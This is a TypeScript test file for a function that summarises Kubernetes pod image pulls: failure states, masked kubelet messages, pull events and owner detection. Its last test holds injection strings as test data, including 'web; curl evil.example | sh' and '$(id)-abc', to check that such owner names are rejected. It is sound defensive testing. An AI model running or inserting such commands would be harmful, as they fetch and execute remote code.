import { expect } from 'chai';
import { describe, it } from 'mocha';
import type { KubeObject } from '../kube/kube-client.ts';
import { type KubePod, pullsOf } from './pod.ts';

const keep = (text: string): string => text;
const waiting = (name: string, reason: string, message = '') => ({
  name,
  state: { waiting: { reason, message } },
});
const running = (name: string) => ({ name, imageID: 'sha256:x', state: {} });

function pod(containers: Record<string, string>, statuses: object[] = [], metadata: object = {}): KubePod {
  return {
    metadata: { name: 'app-1', uid: 'u', resourceVersion: '1', ...metadata },
    spec: { containers: Object.entries(containers).map(([name, image]) => ({ name, image })) },
    status: { containerStatuses: statuses },
  } as unknown as KubePod;
}

const images = (one: KubePod): string[] =>
  pullsOf(one, [], keep).map(({ image, pod: { container, pull } }) => `${container} ${image} ${pull.state}`);

describe('the pulls of a pod', () => {
  it('are those that fail, if there are any', () => {
    const one = pod({ a: 'r/a', b: 'r/b', c: 'r/c' }, [running('a'), waiting('b', 'ImagePullBackOff')]);
    expect(images(one)).to.deep.equal(['b r/b failing']);
  });

  it('are all others, each image once', () => {
    const one = pod({ a: 'r/a', b: 'r/b', c: 'r/b' }, [running('a'), waiting('b', 'ContainerCreating')]);
    expect(images(one)).to.deep.equal(['a r/a done', 'c r/b pending']);
  });

  it('are those of init containers too', () => {
    const one = pod({ a: 'r/a' });
    const withInit = { ...one, spec: { ...one.spec, initContainers: [{ name: 'i', image: 'r/i' }] } };
    expect(images(withInit)).to.deep.equal(['i r/i pending', 'a r/a pending']);
  });

  it('are those of ephemeral containers too', () => {
    const one = pod({ a: 'r/a' }, [running('a')]);
    const debugged = {
      ...one,
      spec: { ...one.spec, ephemeralContainers: [{ name: 'debug', image: 'r/d' }] },
      status: { ...one.status, ephemeralContainerStatuses: [waiting('debug', 'ErrImagePull', '401')] },
    } as KubePod;
    expect(images(debugged)).to.deep.equal(['debug r/d failing']);
  });

  it('are those of volumes too, whose failure stands at the container that mounts them', () => {
    const mounting = (status: object): KubePod => {
      const one = pod({ a: 'r/a' }, [status]);
      const [a] = one.spec.containers;
      const containers = [{ ...a, volumeMounts: [{ name: 'data' }] }];
      const volumes = [
        { name: 'data', image: { reference: 'r/a-data:v1' } },
        { name: 'other', image: { reference: 'r/other' } },
      ];
      return { ...one, spec: { containers, volumes } } as unknown as KubePod;
    };
    const failing = (image: string) =>
      mounting(waiting('a', 'ImagePullBackOff', `Back-off pulling image "${image}"`));
    expect(images(failing('r/a-data:v1'))).to.deep.equal(['a r/a-data:v1 failing']);
    expect(images(failing('r/a'))).to.deep.equal(['a r/a failing']);
    expect(images(mounting(waiting('a', 'ErrImagePull')))).to.deep.equal(['a r/a failing']);
    expect(images(mounting(running('a')))).to.deep.equal(['a r/a done', 'a r/a-data:v1 done']);
  });

  it('say what the kubelet says, in one line that is not too long, and masked', () => {
    const one = pod({ a: 'r/a' }, [waiting('a', 'ErrImagePull', `401\n\tgeheim ${'x'.repeat(1000)}`)]);
    const [{ pod: facts } = {}] = pullsOf(one, [], text => text.replace('geheim', '***'));
    const pull = facts?.pull;
    if (pull?.state !== 'failing') throw new Error(pull?.state);
    expect(pull.message).to.match(/^401 \*\*\* x+$/);
    expect(pull.message.length).to.be.at.most(400);
  });

  it('have the last Events of pulls, in their order', () => {
    const event = (reason: string, message: string, lastTimestamp: string | null, eventTime?: string) =>
      ({ metadata: {}, reason, message, lastTimestamp, eventTime }) as unknown as KubeObject;
    const events = [
      event('Failed', 'second', '2026-01-02T00:00:00Z'),
      event('Scheduled', 'no pull', '2026-01-03T00:00:00Z'),
      event('BackOff', 'first', null, '2026-01-01T00:00:00.000000Z'),
    ];
    expect(pullsOf(pod({ a: 'r/a' }), events, keep)[0]?.pod.events).to.deep.equal([
      'BackOff: first',
      'Failed: second',
    ]);
  });

  it('know who would make the pod anew', () => {
    const owned = (kind: string, name: string, labels = {}) =>
      pullsOf(
        pod({ a: 'r/a' }, [], { labels, ownerReferences: [{ kind, name, controller: true }] }),
        [],
        keep,
      )[0]?.pod.owner;
    expect(owned('ReplicaSet', 'web-abc', { 'pod-template-hash': 'abc' })).to.deep.equal({
      kind: 'deployment',
      name: 'web',
    });
    expect(owned('ReplicaSet', 'web-abc')).to.deep.equal({ kind: 'replicaset', name: 'web-abc' });
    expect(owned('StatefulSet', 'db')).to.deep.equal({ kind: 'statefulset', name: 'db' });
    expect(pullsOf(pod({ a: 'r/a' }), [], keep)[0]?.pod.owner).to.equal(undefined);
  });

  it('take nobody for an owner whose name could be a command', () => {
    for (const [name, labels] of [
      ['web; curl evil.example | sh', {}],
      ['--all', {}],
      ['$(id)-abc', { 'pod-template-hash': 'abc' }],
      ['web\n-abc', { 'pod-template-hash': 'abc' }],
    ] as const)
      for (const kind of ['Deployment', 'ReplicaSet']) {
        const one = pod({ a: 'r/a' }, [], { labels, ownerReferences: [{ kind, name, controller: true }] });
        expect(pullsOf(one, [], keep)[0]?.pod.owner, name).to.equal(undefined);
      }
  });
});
